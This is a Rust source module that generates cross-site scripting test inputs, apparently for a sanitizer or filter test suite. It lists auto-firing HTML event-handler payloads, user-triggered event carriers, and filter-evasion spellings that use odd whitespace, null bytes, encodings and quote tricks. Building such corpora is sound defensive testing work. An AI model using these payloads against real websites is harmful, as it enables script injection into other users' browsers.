//! Event handlers: those that fire by themselves, those that a person fires, and tricks with quotes and spaces.

use super::{each, owned};

pub(super) fn all() -> Vec<String> {
    let mut texts = owned(&BY_ITSELF);
    for event in EVENTS {
        for carrier in
            ["<p {e}={js}>a</p>", "<a href=https://example.org {e}='{js}'>a</a>", "<svg {e}=\"{js}\"></svg>"]
        {
            texts.push(carrier.replace("{e}", event));
        }
    }
    texts.extend(each(&["<img src=x{x}>", "<svg{x}></svg>"], &SPELLINGS));
    texts
}

const BY_ITSELF: [&str; 30] = [
    "<img src=x onerror={js}>",
    "<img src onerror={js}>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={js}>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><animateTransform onbegin={js} attributeName=transform>",
    "<svg><image href=x onerror={js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<frameset onload={js}>",
    "<iframe onload={js}></iframe>",
    "<object onerror={js} data=x></object>",
    "<embed onload={js} src=data:image/gif,>",
    "<video onerror={js} src=x></video>",
    "<video><source onerror={js} src=x></video>",
    "<audio onerror={js} src=x></audio>",
    "<audio oncanplay={js} src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA= autoplay></audio>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>a</button>",
    "<div contenteditable autofocus onfocus={js}>a</div>",
    "<p tabindex=0 autofocus onfocus={js}>a</p>",
    "<details open ontoggle={js}><summary>a</summary></details>",
    "<marquee onstart={js}>a</marquee>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<style onload={js}></style>",
];

const EVENTS: [&str; 30] = [
    "onclick",
    "ondblclick",
    "onmousedown",
    "onmouseup",
    "onmouseover",
    "onmouseenter",
    "onmousemove",
    "onmouseout",
    "onpointerdown",
    "onpointerover",
    "onpointerenter",
    "onpointerrawupdate",
    "onfocus",
    "onfocusin",
    "onblur",
    "onkeydown",
    "onkeyup",
    "onanimationstart",
    "onanimationend",
    "ontransitionrun",
    "ontransitionend",
    "onscroll",
    "onscrollend",
    "onwheel",
    "oncopy",
    "onpaste",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
    "onsecuritypolicyviolation",
    "onauxclick",
];

/// Behind `src=x` or a tag's name.
const SPELLINGS: [&str; 16] = [
    " onerror=\"{js}\" onload=\"{js}\"",
    " onerror='{js}' onload='{js}'",
    " onerror=`{js}` onload=`{js}`",
    " ONERROR={js} ONLOAD={js}",
    "\tonerror={js}\tonload={js}",
    "\nonerror={js}\nonload={js}",
    "\u{c}onerror={js}\u{c}onload={js}",
    "/onerror={js}/onload={js}",
    " onerror = {js} onload = {js}",
    " onerror=&#95;&#95;hit(1) onload=&#95;&#95;hit(1) alt={js}",
    " a=\">\" onerror={js} onload={js}",
    " a='>' onerror={js} onload={js}",
    " a=\"'\" onerror={js} onload={js} b='\"'",
    " \u{0}onerror={js} \u{0}onload={js}",
    " onerror={js};onload={js}",
    " \"onerror={js} 'onload={js}",
];
